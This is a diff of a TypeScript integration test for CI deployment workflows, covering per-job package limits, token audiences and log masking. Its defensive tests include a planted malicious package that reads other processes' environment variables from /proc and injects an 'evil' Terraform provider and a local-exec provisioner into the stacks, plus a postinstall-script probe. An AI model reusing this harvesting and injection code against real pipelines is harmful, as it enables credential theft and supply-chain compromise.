@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { unwrapped } from "../../lab/expect";
 import { KeyScanner } from "../../lab/leak-proof/key-scanner";
@@ -7,11 +7,12 @@ import { randomKey } from "../../lab/random-key";
 import { AWS_PROVIDER_VERSION } from "../../lib/version-floors";
 import { attachProvider } from "../support/attached-provider";
 import { block } from "../support/documents";
-import { PROGRAM_OF_TWO, pipelineOfTwo, workflowOfTwo } from "../support/environments";
+import { PROGRAM_OF_TWO, pipelineOfTwo, workflowOfTwo, workflowWithoutCli } from "../support/environments";
 import { type GitHub, PULL_REQUEST, startGitHub } from "../support/github";
 import { GitLabDriver } from "../support/gitlab-driver";
 import { inOrder } from "../support/in-order";
 import { describeWithAws, type Lab, openLab } from "../support/lab";
+import { LoadedPackages } from "../support/loaded-packages";
 import { OtherAccount } from "../support/other-account";
 import { PROGRAM, ROOT } from "../support/project";
 import { type Context, type JobResult, type Machine, WorkflowDriver } from "../support/workflow-driver";
@@ -47,6 +48,8 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
   let folder = "";
   let program = PROGRAM_OF_TWO;
   const results: JobResult[] = [];
+  /** The packages that the jobs of each name have loaded. */
+  const loaded: Record<string, string[]> = {};
   /** A provider in each account. The jobs that deploy by GitHub start their own, which gets its rights by the job's token. */
   const attached: Record<string, NodeJS.ProcessEnv> = {};
 
@@ -126,14 +129,21 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
     return { workspace: sandbox.project, folder, env: { ...env, ...local, ...more } };
   }
 
-  async function run(job: string, stack?: string, context: Context = {}): Promise<JobResult> {
-    const result = await (program === PROGRAM ? shipped : ofTwo).run(
+  async function run(
+    job: string,
+    stack?: string,
+    context: Context = {},
+    driver = program === PROGRAM ? shipped : ofTwo,
+  ): Promise<JobResult> {
+    const packages = new LoadedPackages(folder, `${job}-${results.length}`);
+    const result = await driver.run(
       job,
       { ...REPOSITORY, ...context },
-      machine({ ...github.env, ...attached[stack?.replace("ai-", "") ?? ""] }),
+      machine({ ...github.env, ...packages.env, ...attached[stack?.replace("ai-", "") ?? ""] }),
       stack,
     );
     results.push(result);
+    loaded[job] = [...new Set([...(loaded[job] ?? []), ...packages.names()])].sort();
     return result;
   }
 
@@ -218,12 +228,81 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
     expect([await staging.secretNames(), await production.secretNames()]).toEqual([[SECRETS.staging], [SECRETS.production]]);
   });
 
+  step("without the cdktf CLI, production finds nothing to do, and loads no package at all", async () => {
+    const strict = new WorkflowDriver(lab.session, workflowWithoutCli(), environments);
+    strict.artifacts.set("cdktf.out", ofTwo.artifacts.get("cdktf.out") ?? "");
+    const inputs = { "inputs.environment": "production", "inputs.stack": "ai-production" };
+    const output = await succeed(run("deploy", undefined, inputs, strict));
+    expect(output).toContain("from the dependency lock file");
+    expect(output).toContain("No changes.");
+    expect(loaded.deploy).toEqual([]);
+  });
+
   step("drift fails after a change by hand, in its environment alone", async () => {
     await staging.tag(SECRETS.staging, "Environment", "somebody");
     const { exitCode, output } = await run("drift", "ai-staging");
     expect(exitCode).toBe(2);
     expect(output).toMatch(/"Environment" += "somebody" -> "Staging"/);
     await succeed(run("drift", "ai-production"));
+  });
+
+  step("each job has loaded the packages that stand in its list, and no other", () => {
+    const { production: deploy, build: all, plan, drift } = loaded;
+    expect(all).toContain("typescript");
+    expect(plan).toEqual([]);
+    for (const [job, names = []] of Object.entries({ deploy, drift })) {
+      expect(names).not.toEqual([]);
+      expect(readPackages()[job]).toEqual(expect.arrayContaining(names));
+    }
+  });
+
+  step("a package with bad code in the build gets neither key nor token, and what it writes into the stack is not deployed", async () => {
+    const seen = join(folder, "seen");
+    const ran = join(folder, "ran");
+    program = `import "./planted";\n${PROGRAM_OF_TWO}`;
+    writeFileSync(join(lab.sandbox.project, "planted.js"), plantedCode(seen, ran));
+    await build();
+    const scanner = new KeyScanner({ ...KEYS, bearer: github.bearer, token: github.token });
+    expect(readFileSync(seen, "utf8")).toContain("GITHUB_ENV="); // it has looked, at every process that it could
+    expect(describeFindings(scanner.scan("what it has seen", readFileSync(seen)))).toEqual([]);
+
+    const asked = github.audiences.length;
+    const { exitCode, output } = await run("production");
+    expect(exitCode).toBe(1);
+    expect(output.split("\n").filter(Boolean)).toEqual([
+      'The build has handed over a stack "ai-production" that is not deployed:',
+      '- terraform.required_providers must not have "evil"',
+      expect.stringMatching(/^- resource\.aws_secretsmanager_secret\.\S+ must not have a provisioner$/),
+    ]);
+    expect(github.audiences).toHaveLength(asked);
+    expect(existsSync(ran)).toBe(false);
+    program = PROGRAM_OF_TWO;
+  });
+
+  step("a package with an install script does not run it", async () => {
+    const place = mkdtempSync(join(folder, "install-"));
+    mkdirSync(join(place, "planted"));
+    const scripts = { postinstall: "touch ../ran" };
+    writeFileSync(join(place, "planted/package.json"), JSON.stringify({ name: "planted", version: "1.0.0", scripts }));
+    writeFileSync(join(place, "package.json"), JSON.stringify({ dependencies: { planted: "file:./planted" } }));
+    const install = async (command: string) => {
+      const shell = new WorkflowDriver(lab.session, {
+        ...workflowOfTwo(),
+        env: {},
+        jobs: { install: { steps: [{ run: `true; ${command}` }] } },
+      });
+      const { PATH, HOME } = process.env;
+      await succeed(shell.run("install", {}, { workspace: place, folder, env: { PATH, HOME } }));
+      return existsSync(join(place, "ran"));
+    };
+
+    await install("npm install --package-lock-only --ignore-scripts --offline");
+    const commands = [...(readWorkflow(".github/workflows/deploy.yml").jobs.build?.steps ?? [])].flatMap(({ run = "" }) =>
+      run.startsWith("npm ci") ? [run] : [],
+    );
+    expect(commands).toEqual(["npm ci --ignore-scripts"]);
+    expect(await install(`${commands[0]} --offline`)).toBe(false);
+    expect(await install("npm ci --offline")).toBe(true); // the detector
   });
 
   /** Runs a job of GitLab's file. */
@@ -279,6 +358,7 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
     const scanner = new KeyScanner({ token: github.token });
     expect(scanner.scan("the file", readFileSync(file))).not.toEqual([]);
     expect(describeFindings(results.flatMap(({ output }) => scanner.scan("an output", Buffer.from(output))))).toEqual([]);
+    expect(results.filter(({ output }) => output.includes("::add-mask::***"))).not.toEqual([]); // nor would GitHub's log
   });
 
   step("tokens are for AWS, or for the audience that the workflow names, such as China's", async () => {
@@ -287,7 +367,7 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
     const china = new WorkflowDriver(lab.session, {
       ...workflowOfTwo(),
       env: { AWS_TOKEN_AUDIENCE: "sts.amazonaws.com.cn" },
-      jobs: { china: { steps: [{ run: ".ci/github-token.sh" }] } },
+      jobs: { china: { permissions: { "id-token": "write" }, steps: [{ run: ".ci/github-token.sh" }] } },
     });
     const env = { PATH: process.env.PATH, AWS_ROLE_ARN: deployRole(ACCOUNTS.staging), ...github.env };
     const machine = { workspace: ROOT, folder: mkdtempSync(join(folder, "china-")), env };
@@ -301,3 +381,37 @@ describeWithAws("deploy.yml and GitLab's file with the environments of docs/envi
     expect(describeFindings(findings)).toEqual([]);
   });
 });
+
+/** The packages that each job may load, but for the build, which may load all of package-lock.json. */
+function readPackages(): Record<string, readonly string[]> {
+  return JSON.parse(readFileSync(join(ROOT, ".ci/packages.json"), "utf8"));
+}
+
+/** Reads the environment of every process that it can, and writes a program to run and another provider into all stacks at the end. */
+function plantedCode(seen: string, ran: string): string {
+  return `
+    const { appendFileSync, readdirSync, readFileSync, writeFileSync } = require("node:fs");
+    for (const process of readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && mine(name))) {
+      appendFileSync(${JSON.stringify(seen)}, readFileSync("/proc/" + process + "/environ", "utf8").replaceAll("\\0", "\\n"));
+    }
+    function mine(pid) {
+      for (let id = String(process.pid); id !== "0" && id !== String(${process.pid}); id = parent(id)) {
+        if (id === pid) return true;
+      }
+      return false;
+    }
+    function parent(id) {
+      return readFileSync("/proc/" + id + "/stat", "utf8").replace(/.*\\) \\S /, "").split(" ")[0];
+    }
+    process.on("exit", () => {
+      for (const stack of ["ai-staging", "ai-production"]) {
+        const file = process.env.CDKTF_OUTDIR + "/stacks/" + stack + "/cdk.tf.json";
+        const config = JSON.parse(readFileSync(file, "utf8"));
+        config.terraform.required_providers.evil = { source: "evil/evil" };
+        const [secret] = Object.values(config.resource.aws_secretsmanager_secret);
+        secret.provisioner = [{ "local-exec": { command: ${JSON.stringify(`env > ${ran}`)} } }];
+        writeFileSync(file, JSON.stringify(config));
+      }
+    });
+  `;
+}
